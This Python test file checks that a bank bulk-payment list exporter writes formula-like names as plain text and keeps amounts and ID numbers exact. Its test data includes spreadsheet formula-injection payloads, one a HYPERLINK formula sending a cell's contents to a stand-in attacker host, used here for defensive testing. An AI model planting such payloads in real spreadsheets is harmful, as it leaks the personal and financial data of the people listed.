"""The bank's 代发名单: names that look like formulas stay text, amounts stay exact."""

import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from jixiao.formats.bank_list import HEADER, write_bank_list
from jixiao.relief.synthetic import made_up_id

TRICKS = ['=HYPERLINK("http://evil.example/?leak="&C2,"点击")', "=1+1", "+SUM(A1:A9)", "-2+3", "@cmd"]


def test_formula_like_names_reach_the_bank_as_text():
    entries = [(name, made_up_id(k), "6228480000000000001", "农业银行", Decimal("500")) for k, name in enumerate(TRICKS)]
    data = write_bank_list(entries, "2021年春节送温暖")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2, max_row=len(TRICKS) + 1))
    assert [r[1].value for r in rows] == TRICKS and all(r[1].data_type == "s" for r in rows)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere


def test_amounts_are_exact_and_ids_are_text():
    entries = [("张三", "13032219560312003X", "", "", Decimal("1210.10")), ("李四", made_up_id(7), "", "", Decimal("0.30"))]
    sheet = load_workbook(io.BytesIO(write_bank_list(entries, "专项资金"))).active
    assert [c.value for c in sheet[1]] == HEADER
    assert sheet["C2"].value == "13032219560312003X" and sheet["C2"].data_type == "s"
    assert sheet["F2"].value == 1210.1 and sheet["F2"].number_format == "0.00"
    assert [sheet["A2"].value, sheet["A3"].value, sheet["G3"].value] == [1, 2, "专项资金"]
    assert [sheet["A4"].value, sheet["B4"].value, sheet["F4"].value] == ["合计", "2人", 1210.4]
